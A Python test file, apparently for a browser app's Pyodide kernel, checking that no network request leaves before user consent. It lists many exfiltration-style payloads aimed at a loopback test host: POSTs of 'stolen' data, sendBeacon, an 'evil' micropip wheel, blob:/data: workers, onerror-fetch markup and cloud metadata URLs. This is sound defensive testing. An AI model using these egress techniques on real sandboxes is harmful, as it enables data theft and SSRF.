"""No request leaves the kernel before consent, by any way of Python or JavaScript; a second origin records them.

The origin on loopback allows every reader, so only the surface's own protection separates it from the kernel.
"""

from __future__ import annotations

import base64
import io
import json
import textwrap
import zipfile
from collections.abc import Generator
from dataclasses import dataclass
from importlib.metadata import distribution
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from gemini_companion.serving.app import Companion
from gemini_testing import Surface
from gemini_testing.pool import BrowserPool
from tests.attacks.outside import Outside, outside_on_loopback
from tests.companions import companion_of, opened_by
from tests.tiers import in_turn, sampled
from tests.web.console import enter, show_console
from tests.web.person import Background, Person

ASKED = "document.querySelector('#approval-question')?.checkVisibility()"
OVER = "'outcome' in calls[arguments[0]]"


@dataclass
class World:
    surface: Surface
    outside: Outside
    companion: Companion
    person: Person

    def python(self, code: str) -> Background:
        return Background(self.surface, "python_run", {"code": textwrap.dedent(code)})

    def is_asked(self, call: Background) -> bool:
        """Wait until a call is over or the user is asked, and return whether the user is asked."""
        return self.surface.wait_for(f"({OVER} && 'over') || ({ASKED} && 'asked')", call.id) == "asked"

    def question(self) -> str:
        return self.person.sees("#approval-question")

    def answer(self, decision: str) -> None:
        self.person.click(f"#approval-{decision}")

    def allowed(self, code: str) -> Any:
        """Run code, allow its request once, and return its value."""
        call = self.python(code)
        assert self.is_asked(call), call.result()
        self.answer("once")
        result = call.result()
        assert "error" not in result, result
        return result["result"]


@pytest.fixture(scope="module")
def outside() -> Generator[Outside]:
    with outside_on_loopback() as outside:
        yield outside


@pytest.fixture(scope="module")
def opened(surface_dist: Path, outside: Outside, browsers: BrowserPool) -> Generator[World]:
    with (
        companion_of(surface_dist, network=outside.fetcher()) as companion,
        opened_by(companion, browsers) as surface,
    ):
        yield World(surface, outside, companion, Person(surface))


@pytest.fixture
def world(opened: World) -> World:
    if opened.surface.javascript(
        f"return Boolean({ASKED}) || document.querySelector('dialog[open]') !== null"
    ):
        # A failed test has left it open.
        opened.surface.load()
    opened.surface.wait_until_ready()
    opened.outside.reset()
    return opened


def running_javascript(body: str) -> str:
    """Return Python code that runs JavaScript in the kernel, and waits at most a second for signs of its end."""
    script = f"(async () => {{ {WITHIN} {body} }})()"
    return f"from pyodide.code import run_js\nstr(await run_js({script!r}))"


WITHIN = (
    "const within = (promise) => Promise.race([promise, "
    "new Promise((done) => setTimeout(done, 1000, 'silence'))]);"
)


def nested(source: str) -> str:
    """Return JavaScript that creates an object with messages and errors, such as a worker, and waits for one."""
    return (
        f"return await within(new Promise((done, fail) => {{ const made = new {source}; "
        "const port = made.port ?? made; port.onmessage = ({ data }) => done(data); "
        "made.onopen = () => done('open'); made.onerror = () => fail(new Error('held')); }))"
    )


FETCHING = "fetch(\\'<url>\\').then(() => (self.postMessage ?? (() => 0))(1))"
BLOB = f"URL.createObjectURL(new Blob(['{FETCHING}'], {{ type: 'text/javascript' }}))"
DATA = f"'data:text/javascript,' + encodeURIComponent('{FETCHING}')"
MICROPIP = "import pyodide_js\nawait pyodide_js.loadPackage('micropip')\nimport micropip\n"
# `URL` in Python is the address of the outside origin.
PYTHON = {
    "js.fetch": "import js\nawait js.fetch(URL)",
    "fetch without CORS": "import js\nfrom pyodide.ffi import to_js\nawait js.fetch(URL, mode='no-cors')",
    "pyfetch": "from pyodide.http import pyfetch\nawait (await pyfetch(URL)).string()",
    "pyfetch with a body": "from pyodide.http import pyfetch\nawait pyfetch(URL, method='POST', body='stolen')",
    "open_url": "from pyodide.http import open_url\nopen_url(URL).read()",
    "synchronous request": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()",
    "urllib": "import urllib.request\nurllib.request.urlopen(URL).read()",
    "urllib with a body": "import urllib.request\nurllib.request.urlopen(URL, data=b'stolen').read()",
    "a lazy file": (
        "from pyodide_js import FS\nFS.createLazyFile('/tmp', 'lazy', URL, True, False)\nopen('/tmp/lazy').read()"
    ),
    "http.client": "import http.client\nc = http.client.HTTPConnection(HOST, PORT, timeout=2)\nc.request('GET', '/')",
    "socket": "import socket\nsocket.create_connection((HOST, PORT), 2)",
    "asyncio streams": "import asyncio\nawait asyncio.wait_for(asyncio.open_connection(HOST, PORT), 2)",
    "micropip, a wheel": MICROPIP + "await micropip.install(URL + '/evil-1.0-py3-none-any.whl')",
    "micropip, an index": MICROPIP + "await micropip.install('evil', index_urls=[URL + '/simple'])",
    "loadPackage": "import pyodide_js\nawait pyodide_js.loadPackage(URL + '/evil-1.0-py3-none-any.whl')\n1 / 0",
    "the surface's own client": "from gemini.core import ffi\nawait ffi.fetch(URL, 'GET', {}, b'')",
    "a model's endpoint": (
        "from gemini.core import ffi\nawait ffi.fetch(URL + '/v1/chat', 'POST', {'authorization': 'Bearer key'}, b'{}')"
    ),
}
JAVASCRIPT = {
    "fetch": "return (await fetch('<url>')).status",
    "fetch, keepalive": "return (await fetch('<url>', { method: 'POST', body: 'x', keepalive: true })).status",
    "the browser's own fetch": (
        "const own = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch')?.value ?? "
        "(delete self.fetch, self.fetch); return (await own.call(self, '<url>', { mode: 'no-cors' })).type"
    ),
    "the browser's own request": (
        "const x = new (Object.getPrototypeOf(XMLHttpRequest)); x.open('GET', '<url>', false); x.send(); "
        "return x.status"
    ),
    "WebSocket": nested("WebSocket('ws://<host>')"),
    "WebSocket, deleted first": "delete self.WebSocket; " + nested("WebSocket('ws://<host>')"),
    "WebTransport": "const t = new WebTransport('https://<host>'); await within(t.ready); return 'open'",
    "EventSource": nested("EventSource('<url>')"),
    "a worker": nested("Worker('<url>/w.js')"),
    "a module worker": nested("Worker('<url>/w.js', { type: 'module' })"),
    "a data: worker": nested(f"Worker({DATA})"),
    "a blob: worker": nested(f"Worker({BLOB})"),
    "a shared worker": nested("SharedWorker('<url>/w.js')"),
    "a shared data: worker": nested(f"SharedWorker({DATA})"),
    "a shared blob: worker": nested(f"SharedWorker({BLOB})"),
    "importScripts": "importScripts('<url>/w.js'); return 'loaded'",
    "import": "return await import('<url>/w.js')",
    "import of data:": f"return await import({DATA})",
    "import of blob:": f"return await import({BLOB})",
    "sendBeacon": "return navigator.sendBeacon('<url>', 'stolen')",
    "a font": "return (await within(new FontFace('stolen', 'url(<url>/f.woff2)').load())).status",
    "the cache": "await (await caches.open('x')).add('<url>'); return 'saved'",
    "the cache, without CORS": "await (await caches.open('x')).add(new Request('<url>', { mode: 'no-cors' }))",
    "WebRTC": (
        "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:<host>' }] }); c.createDataChannel('x'); "
        "await c.setLocalDescription(); return 'offered'"
    ),
    "a service worker": "return await navigator.serviceWorker.register('<url>/w.js')",
    "WebAssembly": "return await WebAssembly.compileStreaming(fetch('<url>/x.wasm'))",
    "a nested worker of the surface's own": (
        "const w = new Worker(new URL('network_worker.js', location.href)); "
        "w.postMessage({ networkDoor: { url: '<url>' } }); "
        "return within(new Promise((done) => { w.onmessage = done; }))"
    ),
    "a redirect of the kernel's own origin": "return (await fetch('//<host>/')).status",
    "a notification's picture": "new Notification('x', { icon: '<url>/icon.png' }); return 'shown'",
    "a script's report": (
        "new ReportingObserver(() => 0).observe(); return (await fetch('<url>', { method: 'OPTIONS' })).status"
    ),
}


@pytest.mark.parametrize("name", sampled(PYTHON))
def test_nothing_leaves_through_python_before_consent(world: World, name: str) -> None:
    given = f"HOST, PORT = '127.0.0.1', {world.outside.port}\nURL = {world.outside.url!r}\n"
    nothing_leaves(world, given + PYTHON[name])


@pytest.mark.parametrize("name", sampled(JAVASCRIPT))
def test_nothing_leaves_through_javascript_before_consent(world: World, name: str) -> None:
    host = f"127.0.0.1:{world.outside.port}"
    body = JAVASCRIPT[name].replace("<url>", world.outside.url).replace("<host>", host)
    nothing_leaves(world, running_javascript(body))


def nothing_leaves(world: World, code: str) -> None:
    call = world.python(code)
    asked = world.is_asked(call)
    assert world.outside.seen() == (0, [])
    while asked:
        assert world.outside.url in world.question()
        world.answer("refuse")
        world.surface.wait_for(f"{OVER} || !{ASKED}", call.id)
        asked = world.is_asked(call)
        assert world.outside.seen() == (0, [])
    call.result()
    assert world.outside.seen() == (0, [])


MARKUP = {
    "a picture": "<img src=URL/x.png>",
    "pictures by size": "<img srcset='URL/x.png 1x'>",
    "a style": "<b style='background: url(URL/x.png)'>x</b>",
    "a style sheet": "<link rel=stylesheet href=URL/x.css><style>@import 'URL/y.css';</style>",
    "a font": "<style>@font-face { font-family: x; src: url(URL/f.woff2) } * { font-family: x }</style>text",
    "ahead of need": (
        "<link rel=prefetch href=URL/a><link rel=preload as=image href=URL/b><link rel=dns-prefetch href=URL>"
        "<link rel=preconnect href=URL><link rel=prerender href=URL/c><link rel=modulepreload href=URL/d.js>"
    ),
    "a picture in SVG": "<svg><image href=URL/x.png /><use href='URL/x.svg#a'/></svg>",
    "media": "<video src=URL/v poster=URL/p autoplay></video><audio src=URL/a autoplay></audio><track src=URL/t>",
    "a frame": "<iframe src=URL></iframe><object data=URL></object><embed src=URL>",
    "a form": "<form action=URL><input name=a value=b autofocus onfocus=form.submit()></form>",
    "a redirection": "<meta http-equiv=refresh content='0; URL'><base href=URL>",
    "a script": "<script src=URL/x.js></script><img src=x onerror='fetch(`URL`)'>",
}


@pytest.mark.parametrize("name", sampled(MARKUP, every=8))
def test_output_in_the_console_loads_nothing(world: World, name: str) -> None:
    markup = MARKUP[name].replace("URL", world.outside.url)
    person = world.person
    show_console(person)
    person.click('button "Clear"')
    code = f"class Page:\n    def _repr_html_(self): return '<h3>shown</h3>' + {markup!r}\nPage()"
    enter(person, code)
    person.sees(".console-result h3", "shown")
    # Images are requested at layout.
    world.surface.javascript("await new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert world.outside.seen() == (0, [])


def test_no_name_is_resolved_before_consent(world: World) -> None:
    call = world.python("import js\nawait js.fetch('http://stolen-data.outside.test/')")
    assert world.is_asked(call), call.result()
    assert world.outside.names == []
    world.answer("refuse")
    assert "refused" in json.dumps(call.result())
    assert world.outside.names == []


@in_turn(
    "url",
    [
        "http://127.0.0.1:{main}/tools.json", "http://[::1]:{main}/", "http://2130706433:{main}/",
        "http://localhost:{main}/", "http://127.0.0.1:8399/",
        "http://127.0.0.1:{main}/mcp", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/",
    ],
)  # fmt: skip
def test_the_companion_and_clouds_services_are_refused_without_a_question(world: World, url: str) -> None:
    port = urlsplit(world.companion.mcp_url).port
    call = world.python(f"import js\nawait js.fetch({url.format(main=port)!r})")
    assert not world.is_asked(call)
    assert "isn't reached this way" in json.dumps(call.result())


@in_turn("url", ["http://192.168.0.1/", "http://router.local/"])
def test_no_answer_to_the_usual_question_opens_this_network(world: World, url: str) -> None:
    call = world.python(f"import js\nawait js.fetch({url!r})")
    assert world.is_asked(call)
    world.answer("once")
    # A private address is the companion's question.
    if world.is_asked(call):
        assert "private" in world.question()
        world.answer("refuse")
    assert "error" in call.result()


@in_turn(
    "body",
    [
        "return (await fetch(door.replace(/[^/]+$/, 'guessed'), { method: 'POST', headers })).status",
        "return (await fetch(door, { headers })).status",
        "return String(await import(door))",
        "importScripts(door)",
        nested("Worker(door)"),
        nested("SharedWorker(door)"),
        "return await within(new FontFace('x', `url(${door})`).load())",
        "return (await fetch(door, { method: 'POST', headers, mode: 'no-cors' })).status",
        "return (await fetch(door, { method: 'POST' })).status",
    ],
    ids=[
        "key",
        "get",
        "import",
        "importScripts",
        "worker",
        "shared worker",
        "font",
        "no-cors",
        "undescribed",
    ],
)
def test_the_door_itself_returns_nothing_without_consent(world: World, body: str) -> None:
    key = world.surface.javascript("return sessionStorage.getItem('gemini:companion:page')")
    described = json.dumps({"url": world.outside.url + "/", "method": "GET"})
    setting = f"const door = location.origin + '/network/{key}', headers = {{ 'X-Network-Request': {described!r} }};"
    call = world.python(running_javascript(setting + body))
    assert not world.is_asked(call)
    assert call.result().get("result") != "200"
    assert world.outside.seen() == (0, [])


@pytest.mark.fortnightly
def test_a_redirect_to_another_origin_needs_consent(world: World) -> None:
    there = f"{world.outside.second}/stolen?data=1"
    call = world.python(f"import js\n(await js.fetch('{world.outside.named}/redirect?to={there}')).url")
    assert world.is_asked(call) and world.outside.named in world.question()
    world.answer("once")
    assert world.outside.second in world.person.sees("#approval-question", world.outside.second)
    assert world.outside.seen() == (1, [f"GET /redirect?to={there}"])
    world.answer("refuse")
    assert "refused" in json.dumps(call.result())
    assert world.outside.seen() == (1, [f"GET /redirect?to={there}"])


# After consent all of them work.


def test_fetch_works_as_without_a_door(world: World) -> None:
    result = world.allowed(
        f"""
        import js
        answer = await js.fetch('{world.outside.named}/page?q=1')
        copy = answer.clone()
        [answer.status, answer.url, answer.headers.get('x-own'), await answer.text(), copy.url]
        """
    )
    url = f"{world.outside.named}/page?q=1"
    assert result == [200, url, "yes", "hällo", url]
    assert world.outside.requests == ["GET /page?q=1"]
    assert not {"cookie", "referer", "origin"} & world.outside.headers[0].keys()


def test_the_question_shows_the_request_and_its_caller(world: World) -> None:
    call = world.python(
        f"from pyodide.http import pyfetch\nawait pyfetch('{world.outside.named}/a', method='POST', body='x' * 2000)"
    )
    assert world.is_asked(call), call.result()
    question = world.question()
    assert f"{world.outside.named}/a" in question and "POST" in question and "send data" in question
    assert "python_run" in world.person.sees("#approval")
    world.answer("once")
    call.result()
    assert world.outside.bodies == [b"x" * 2000]


def test_a_synchronous_request_waits_for_consent(world: World) -> None:
    result = world.allowed(
        f"from pyodide.http import open_url\nopen_url('{world.outside.named}/text').read()"
    )
    assert result == "hällo"


@pytest.mark.extended
def test_requests_of_xmlhttprequest_have_status_headers_and_bytes(world: World) -> None:
    result = world.allowed(
        f"""
        import js
        from pyodide.ffi import to_js
        x = js.XMLHttpRequest.new()
        x.open('PUT', '{world.outside.named}/missing', False)
        x.responseType = 'arraybuffer'
        x.setRequestHeader('X-Mine', 'sent')
        x.send(to_js(b'data'))
        names = [line.split(':')[0] for line in x.getAllResponseHeaders().split('\\r\\n')]
        [x.status, x.responseURL, bytes(x.response.to_bytes()).decode(), 'x-own' in names, x.getResponseHeader('X-Own')]
        """
    )
    assert result == [404, f"{world.outside.named}/missing", "not here", True, "yes"]
    assert world.outside.requests == ["PUT /missing"] and world.outside.bodies == [b"data"]
    assert world.outside.headers[0]["x-mine"] == "sent"


@pytest.mark.extended
def test_an_asynchronous_request_gets_its_events(world: World) -> None:
    body = (
        f"const x = new XMLHttpRequest; x.open('GET', '{world.outside.named}/'); x.send(); "
        "return await new Promise((done) => Object.assign(x, { onerror: () => done('error'), "
        "onload: () => done(`load ${x.responseText}`) }))"
    )
    assert world.allowed(running_javascript(body)) == "load hällo"
    call = world.python(running_javascript(body))
    assert world.is_asked(call), call.result()
    world.answer("refuse")
    assert call.result()["result"] == "error"


@pytest.mark.extended
def test_forms_are_sent_with_their_boundary(world: World) -> None:
    body = (
        "const form = new FormData; form.append('a', new Blob(['content']), 'name.txt'); "
        f"return (await fetch('{world.outside.named}/', {{ method: 'POST', body: form }})).status"
    )
    assert world.allowed(running_javascript(body)) == "200"
    assert b"content" in world.outside.bodies[0]
    boundary = world.outside.headers[0]["content-type"].partition("boundary=")[2]
    assert boundary and boundary.encode() in world.outside.bodies[0]


@pytest.mark.fortnightly
def test_urllib_reads_pages_and_errors(world: World) -> None:
    result = world.allowed(
        f"""
        import urllib.request
        with urllib.request.urlopen('{world.outside.named}/page') as answer:
            values = [answer.status, answer.headers['X-Own'], answer.read().decode(), answer.url]
        values
        """
    )
    assert result == [200, "yes", "hällo", f"{world.outside.named}/page"]
    result = world.allowed(
        f"""
        import urllib.error, urllib.request
        try:
            urllib.request.urlopen('{world.outside.named}/missing')
        except urllib.error.HTTPError as error:
            values = [error.code, error.read().decode()]
        values
        """
    )
    assert result == [404, "not here"]


@in_turn(
    "code",
    [
        "import js\nawait js.fetch(URL)",
        "from pyodide.http import open_url\nopen_url(URL)",
        "from pyodide.http import pyfetch\nawait pyfetch(URL)",
        "import urllib.request\nurllib.request.urlopen(URL)",
        MICROPIP + "await micropip.install(URL + '/thing-1.0-py3-none-any.whl')",
    ],
    ids=["fetch", "open_url", "pyfetch", "urllib", "micropip"],
)
def test_a_refusal_is_reported_by_every_client(world: World, code: str) -> None:
    call = world.python(f"URL = '{world.outside.named}'\n{code}")
    assert world.is_asked(call), call.result()
    world.answer("refuse")
    error = call.result()["error"]
    assert f"{world.outside.named} was not sent: the user refused" in json.dumps(error)


@pytest.mark.parametrize("name", ["WebSocket", "WebTransport", "EventSource"])
def test_blocked_interfaces_say_so(world: World, name: str) -> None:
    error = world.python(f"import js\njs.{name}.new('https://a.example/')").result()["error"]
    assert "can't be used from the page's Python" in json.dumps(error)


# Pure Python packages of the tests' own machine, with their dependencies.
URLLIB3 = ["urllib3"]
REQUESTS = ["requests", "urllib3", "idna", "certifi", "charset-normalizer"]
HTTPX = ["httpx", "httpcore", "idna", "certifi", "anyio", "h11"]
LIBRARIES = {
    # Its default time limit of 3 s includes the wait for the user.
    "urllib3": (
        URLLIB3,
        "r = urllib3.request('GET', URL, retries=False, timeout=120)\n[r.status, r.data.decode()]",
    ),
    "requests": (REQUESTS, "r = requests.get(URL)\n[r.status_code, r.text]"),
    "httpx": (HTTPX, "r = httpx.get(URL)\n[r.status_code, r.text]"),
    "httpx-async": (
        HTTPX,
        "async with httpx.AsyncClient() as client:\n    r = await client.get(URL)\n[r.status_code, r.text]",
    ),
}


def install(surface: Surface, packages: list[str]) -> None:
    """Install packages of this machine into the page."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        for each in (each for package in packages for each in distribution(package).files or ()):
            # Only source files, without binaries for this machine.
            if each.suffix not in (".pyc", ".so") and ".." not in each.parts:
                file.write(str(each.locate()), str(each))
    data = base64.b64encode(archive.getvalue()).decode()
    surface.python(
        "import base64, io, sys, zipfile\n"
        f"zipfile.ZipFile(io.BytesIO(base64.b64decode('{data}'))).extractall('/tmp/libraries')\n"
        "if '/tmp/libraries' not in sys.path: sys.path.append('/tmp/libraries')"
    )


@pytest.mark.fortnightly
@pytest.mark.parametrize("library", sampled(LIBRARIES))
def test_libraries_that_open_sockets_ask_too(world: World, library: str) -> None:
    packages, code = LIBRARIES[library]
    install(world.surface, packages)
    call = world.python(f"import {packages[0]}\nURL = {world.outside.named!r}\n{code}")
    assert world.is_asked(call), call.result()
    assert world.outside.seen() == (0, [])
    assert world.outside.named in world.question()
    world.answer("once")
    assert call.result().get("result") == [200, "hällo"], call.result()


@pytest.mark.fortnightly
def test_micropip_installs_from_an_index_after_consent(world: World) -> None:
    wheel = build_wheel()
    files = f"{world.outside.named}/files/{wheel.name}"
    metadata = {
        "info": {"name": "thing", "version": "1.0"},
        "releases": {"1.0": [{"filename": wheel.name, "url": files, "digests": {"sha256": wheel.digest}}]},
    }
    world.outside.pages["/simple/thing/json"] = ("application/json", json.dumps(metadata).encode())
    world.outside.pages[f"/files/{wheel.name}"] = ("application/zip", wheel.content)
    index = f"{world.outside.named}/simple/{{package_name}}/json"
    call = world.python(
        f"{MICROPIP}await micropip.install('thing', index_urls=['{index}'])\nimport thing\nthing.value"
    )
    assert world.is_asked(call), call.result()
    world.answer("run")
    result = call.result()
    assert result.get("result") == 42, result
    assert world.outside.requests == ["GET /simple/thing/json", f"GET /files/{wheel.name}"]


@dataclass
class Wheel:
    name: str
    content: bytes
    digest: str


def build_wheel() -> Wheel:
    """Build a wheel with one module, `thing`."""
    import hashlib
    import io
    import zipfile

    about = "thing-1.0.dist-info"
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as wheel:
        wheel.writestr("thing.py", "value = 42")
        wheel.writestr(f"{about}/METADATA", "Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n")
        wheel.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{about}/RECORD", "")
    content = made.getvalue()
    return Wheel("thing-1.0-py3-none-any.whl", content, hashlib.sha256(content).hexdigest())
